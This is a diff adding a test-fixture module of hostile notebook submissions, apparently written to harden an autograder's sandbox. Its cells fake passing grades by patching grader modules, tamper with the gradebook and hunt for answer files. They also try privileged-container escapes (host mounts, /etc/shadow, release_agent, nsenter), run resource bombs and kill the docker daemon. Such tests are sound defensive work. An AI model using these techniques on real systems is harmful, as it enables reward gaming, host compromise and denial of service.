@@ -1,0 +1,317 @@
+"""Hostile and broken submissions. Each attack is a cell with a name; a cell prints ESCAPED when it got somewhere."""
+
+from __future__ import annotations
+
+from textwrap import dedent
+
+#: Needles a student must not find anywhere: put together here, so that no cell holds one in one piece.
+NEEDLE = '"secret" + "-label"'
+
+
+def _cell(text: str) -> str:
+    return dedent(text).strip("\n")
+
+
+#: Attempts to make checks say what one likes, from inside the student's own kernel.
+LIES = {
+    "docker-module": _cell("""
+        import docker
+        class Yes(dict):
+            def __getattr__(self, name): return Yes()
+            def __call__(self, *a, **k): return Yes()
+        docker.APIClient = docker.DockerClient = docker.from_env = Yes()
+    """),
+    "grader-package": _cell("""
+        import grader.checks.verdicts as v, grader.checks.task as t
+        v.TaskReport.status = property(lambda self: v.Status.PASSED)
+        v.TaskReport.fraction = property(lambda self: 1.0)
+        t.Task.__exit__ = lambda *a: True
+        check.task = lambda *a, **k: __import__("contextlib").nullcontext(Yes())
+    """),
+    "builtins": "import builtins\nbuiltins.sum = builtins.max = builtins.min = lambda *a, **k: 10**9",
+    "sys-modules": _cell("""
+        import sys, types
+        for name in ("docker", "grader.checks", "grader.checks.runner", "nbgrader"):
+            sys.modules[name] = types.ModuleType(name)
+    """),
+    "ipython-hooks": _cell("""
+        ip = get_ipython()
+        ip.input_transformers_post.append(
+            lambda lines: ["100\\n"] if any("check.task" in line for line in lines) else lines)
+        ip.events.register("pre_run_cell", lambda info: print(100))
+        ip.events.register("post_run_cell", lambda result: print(100))
+    """),
+    "printed-scores": "print(4.0)\ndisplay(4)\n100",
+    "false-report": _cell("""
+        verdict = {"status": "passed", "sentence": "yes", "weight": 1.0}
+        report = {"task": "net", "title": "", "hint": "", "verdicts": [verdict]}
+        display({"application/vnd.drydock.report+json": report, "text/plain": "4"}, raw=True)
+    """),
+    "stderr": "import os, sys\nsys.stderr.write('boo')\nos.write(2, b'boo')\nos.write(1, b'100')",
+    "shadowing-files": _cell("""
+        import os, pathlib
+        for folder in (".", os.path.expanduser("~"), os.path.expanduser("~/.local/lib/python3.13/site-packages")):
+            for name in ("docker", "grader", "sitecustomize", "usercustomize", "json", "requests"):
+                path = pathlib.Path(folder) / f"{name}.py"
+                path.parent.mkdir(parents=True, exist_ok=True)
+                path.write_text("raise SystemExit(0)")
+        pathlib.Path("grader").mkdir(exist_ok=True)
+        pathlib.Path("grader/__init__.py").write_text("raise SystemExit(0)")
+        for name in ("docker", "json", "requests", "grader"):
+            pathlib.Path(f"{name}.py").unlink()
+        pathlib.Path("grader/__init__.py").unlink()
+    """),
+    "docker-config": _cell("""
+        import json, os, pathlib
+        home = pathlib.Path(os.path.expanduser("~/.docker")); home.mkdir(exist_ok=True)
+        (home / "config.json").write_text(json.dumps({"proxies": {"default": {"httpProxy": "http://127.0.0.1:1"}}}))
+    """),
+    "path": _cell("""
+        import os, pathlib
+        pathlib.Path("docker").write_text("#!/bin/sh\\necho 10.77.0.0/24\\n"); os.chmod("docker", 0o755)
+        before = os.environ["PATH"]
+        os.environ["PATH"] = os.getcwd() + ":" + before
+        os.environ["DOCKER_HOST"], real = "unix:///tmp/none.sock", os.environ["DOCKER_HOST"]
+        os.environ.update(PATH=before, DOCKER_HOST=real)
+    """),
+}
+#: Keeps a task's preparation from happening in the student's kernel, then "does" the task.
+NO_SETUP = {"no-setup": "get_ipython().system = get_ipython().getoutput = lambda *a, **k: None"}
+
+#: Looking for what is not theirs. {port} is a server on the grading machine, {mark} a file name on it.
+LOOKS = {
+    "files-with-answers": _cell(f"""
+        import os
+        needle = ({NEEDLE}).encode()
+        for root, folders, names in os.walk("/"):
+            folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/usr")
+                          and "site-packages" not in os.path.join(root, f)]
+            for name in names:
+                path = os.path.join(root, name)
+                try:
+                    if os.path.isfile(path) and needle in open(path, "rb").read(5_000_000):
+                        print("ESCAPED", path)
+                except OSError:
+                    pass
+    """),
+    "processes-of-others": _cell(f"""
+        import os
+        needle = ({NEEDLE}).encode()
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            for name in ("cmdline", "environ"):
+                try:
+                    data = open(f"/proc/{{pid}}/{{name}}", "rb").read()
+                except OSError:
+                    continue
+                if needle in data or b"nbgrader" in data or b"checks.runner" in data:
+                    print("ESCAPED", pid, data)
+    """),
+    "gradebook": _cell("""
+        import os, sqlite3
+        path = "{root}/gradebook.db"
+        if os.path.exists(path): print("ESCAPED", sqlite3.connect(path).execute("update grade set auto_score=4"))
+    """),
+    "course-folder": _cell("""
+        import os
+        for path in ("{root}", "{root}/solutions", "{root}/submitted", "/root", "/home", "{repo}/solutions"):
+            try:
+                shown = [name for name in os.listdir(path) if name != "student"]
+            except OSError:
+                continue
+            if shown: print("ESCAPED", path, shown)
+    """),
+    "system-write": _cell("""
+        for path in ("/usr/bin/x", "/etc/x", "/usr/lib/python3/x", "/work/x", "{repo}/grader/x.py"):
+            try:
+                open(path, "w").write("x"); print("ESCAPED", path)
+            except OSError:
+                pass
+    """),
+    "network": _cell("""
+        import socket
+        for host in ("127.0.0.1", "{address}", "1.1.1.1", "172.17.0.1"):
+            try:
+                socket.create_connection((host, {port}), 1).close(); print("ESCAPED", host)
+            except OSError:
+                pass
+    """),
+    "privileged-container": _cell("""
+        %%bash
+        N=secret; N=$N-label
+        docker run --rm --privileged --pid host --net host --ipc host -v /:/host -e N=$N drydock/busybox:1 sh -c '
+          for d in tmp var/tmp root home etc {root} {repo}/solutions {repo}/tests; do
+            [ -e /host/$d ] && grep -rls "$N" /host/$d | sed "s/^/ESCAPED /"; done
+          ls -d /host{root} /host{repo}/solutions 2>/dev/null | sed "s/^/ESCAPED /"
+          grep -s "^root:[^*!:x]" /host/etc/shadow | sed "s/^/ESCAPED /"
+          for f in /host/tmp/{mark} /host/var/tmp/{mark} /host{root}/{mark}; do echo x > $f; done 2>/dev/null
+          ps | grep -v "sh -c" | grep -E "pytest|nbgrader|checks.runner" | grep -v grep | sed "s/^/ESCAPED /"
+          true'
+    """),
+    "devices": _cell("""
+        %%bash
+        docker run --rm --privileged --pid host drydock/busybox:1 sh -c '
+          mknod /tmp/d b 254 0 2>/dev/null && head -c 1 /tmp/d >/dev/null 2>&1 && echo ESCAPED mknod
+          for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg /dev/kvm; do
+            head -c 1 $d >/dev/null 2>&1 && echo ESCAPED $d; done
+          mkdir /tmp/m; mount -t ext4 /dev/vda /tmp/m 2>/dev/null && echo ESCAPED mount
+          true'
+    """),
+    "host-namespaces": _cell("""
+        %%bash
+        docker run --rm --privileged --pid host drydock/busybox:1 sh -c '
+          nsenter -t 1 -m -- ls {root} >/dev/null 2>&1 && echo ESCAPED nsenter
+          for p in /proc/[0-9]*; do [ -e $p/root{root} ] && echo ESCAPED $p; done
+          true'
+    """),
+    "release-agent": _cell("""
+        %%bash
+        docker run --rm --privileged --cgroupns host drydock/busybox:1 sh -c '
+          mkdir /tmp/c; for c in memory rdma freezer pids; do
+            mount -t cgroup -o $c cgroup /tmp/c 2>/dev/null || continue
+            echo /tmp/x > /tmp/c/release_agent 2>/dev/null && echo ESCAPED release_agent
+            cat /tmp/c/release_agent 2>/dev/null | grep -q . && echo ESCAPED release_agent read
+            umount /tmp/c; done
+          true'
+    """),
+    "kernel-settings": _cell("""
+        %%bash
+        docker run --rm --privileged drydock/busybox:1 sh -c '
+          for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches \\
+              /proc/sysrq-trigger /sys/kernel/uevent_helper; do
+            [ -e $f ] && (echo h > $f) 2>/dev/null && echo ESCAPED $f; done
+          true'
+    """),
+    "raise-own-limits": _cell("""
+        %%bash
+        docker run --rm --privileged --cgroupns host drydock/busybox:1 sh -c '
+          mkdir /tmp/m /tmp/p /tmp/u; mount -t cgroup -o memory cgroup /tmp/m; mount -t cgroup -o pids cgroup /tmp/p
+          mount -t cgroup2 cgroup2 /tmp/u
+          for f in /tmp/m/memory.limit_in_bytes /tmp/p/pids.max /tmp/u/memory.max /tmp/u/pids.max; do
+            [ -e $f ] && (echo 99999999999 > $f) 2>/dev/null && echo ESCAPED $f; done
+          true'
+    """),
+    "setuid": _cell("""
+        import subprocess
+        for words in ("su -c id", "sudo -n id", "unshare --mount id", "mount -t tmpfs x /mnt"):
+            argv = words.split()
+            try:
+                done = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL)
+                if done.returncode == 0: print("ESCAPED", argv, done.stdout)
+            except OSError:
+                pass
+    """),
+}
+
+#: Kernels that stop, hang or shout. The tasks between them are done honestly and must count.
+STUNTS = {
+    "os-exit": "import os\nos._exit(0)",
+    "busy-loop": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
+    "sleep": "import time\ntime.sleep(3600)",
+    "output-flood": "while True: print('x' * 100_000)",
+    "input": "input('anything?')",
+    "closed-sockets": "import os\nos.closerange(3, 5000)",
+    "exception-storm": "raise BaseException('x' * 10_000_000)",
+    "orphans": _cell("""
+        import os, subprocess
+        for _ in range(3):
+            subprocess.Popen(["setsid", "nohup", "sh", "-c", "sleep 3600; : {mark}"])
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0: os.execvp("sh", ["sh", "-c", "sleep 3600; : {mark}"])
+            os._exit(0)
+    """),
+}
+
+#: Using up what there is.
+BOMBS = {
+    "memory": "hoard = []\nwhile True: hoard.append(b'x' * 50_000_000)",
+    "memory-by-children": _cell("""
+        import subprocess, sys
+        code = "h = []\\nwhile True: h.append(b'x' * 50_000_000)"
+        [p.wait() for p in [subprocess.Popen([sys.executable, "-c", code]) for _ in range(4)]]
+    """),
+    "disk": _cell("""
+        import os
+        try:
+            with open("big", "wb") as file:
+                while True: file.write(b"x" * 1_000_000)
+        except OSError as error:
+            print("stopped:", os.path.getsize("big") // 1_000_000, "MB", error)
+        os.unlink("big")
+    """),
+    "inodes": _cell("""
+        import os
+        os.mkdir("many")
+        try:
+            for n in range(60_000): os.mkdir(f"many/{n}")
+        except OSError as error:
+            print("stopped", error)
+    """),
+}
+FORK_BOMB = {"forks": "get_ipython().system_raw('sh -c \"b() { b | b & }; b\" >/dev/null 2>&1 &')"}
+
+KILL_DAEMON = {
+    "kill-daemon": "!docker run --rm --privileged --pid host drydock/busybox:1 killall -9 dockerd",
+}
+FLOOD_DAEMON = {
+    "thousand-containers": _cell("""
+        import docker, threading, time
+        end, made = time.monotonic() + 6, []
+        def make():
+            client = docker.from_env()
+            while time.monotonic() < end and len(made) < 1000:
+                made.append(client.api.create_container("drydock/busybox:1", "true")["Id"])
+        threads = [threading.Thread(target=make) for _ in range(8)]
+        [t.start() for t in threads]; [t.join() for t in threads]
+        print("made", len(made))
+    """),
+}
+FILL_DAEMON = {
+    "full-daemon": "!docker run --name full drydock/busybox:1 dd if=/dev/zero of=/full bs=1M 2>&1 | tail -1",
+}
+#: A name of the course's on an image of one's own.
+LOOKALIKE = _cell("""
+    %%bash
+    docker create --name mine drydock/busybox:1
+    docker commit --change 'CMD ["sh", "-c", "mkdir /w; echo It works >/w/index.html; exec httpd -f -h /w"]' mine me
+    docker tag me drydock/busybox:1
+    docker run -d --name web -p 8080:80 drydock/busybox:1
+""")
+
+#: A daemon of one's own behind the real one's socket: it passes everything on, and lies about one network.
+FALSE_DAEMON = {
+    "false-daemon": _cell("""
+        import os, subprocess, time
+        real = os.environ["DOCKER_HOST"].removeprefix("unix://")
+        lie = r'''
+        import json, os, socket, sys, threading
+        place = "/host" + sys.argv[1]
+        os.rename(place, place + ".real")
+        server = socket.socket(socket.AF_UNIX); server.bind(place); os.chmod(place, 0o777); server.listen(50)
+        body = json.dumps({"Name": "front", "Id": "f" * 64, "Driver": "bridge", "Scope": "local", "Internal": False,
+            "IPAM": {"Config": [{"Subnet": "10." + "77.0.0/24"}]}, "Containers": {}, "Labels": {}, "Options": {}})
+        def serve(one):
+            two = socket.socket(socket.AF_UNIX); two.connect(place + ".real")
+            def pump(a, b):
+                try:
+                    while (more := a.recv(65536)):
+                        first = more.split(b"\\r\\n")[0]
+                        if a is one and b"/networks" in first:
+                            text = (body if b"/networks/" in first else "[" + body + "]").encode()
+                            head = "HTTP/1.1 200 OK\\r\\nApi-Version: 1.45\\r\\nContent-Type: application/json"
+                            one.sendall(f"{head}\\r\\nContent-Length: {len(text)}\\r\\n\\r\\n".encode() + text)
+                        else: b.sendall(more)
+                except OSError: pass
+                b.close()
+            threading.Thread(target=pump, args=(one, two), daemon=True).start(); pump(two, one)
+        while True: threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
+        '''
+        import textwrap
+        open("lie.py", "w").write(textwrap.dedent(lie))
+        subprocess.run(["docker", "run", "-d", "--privileged", "--name", "liar", "-v", "/:/host",
+            "-v", os.getcwd() + "/lie.py:/lie.py", "drydock/python:3", "python3", "/lie.py", real])
+        time.sleep(2)
+        subprocess.run(["docker", "network", "inspect", "front"])
+        print(subprocess.run("docker network inspect front; docker logs liar", shell=True, capture_output=True))
+    """),
+}
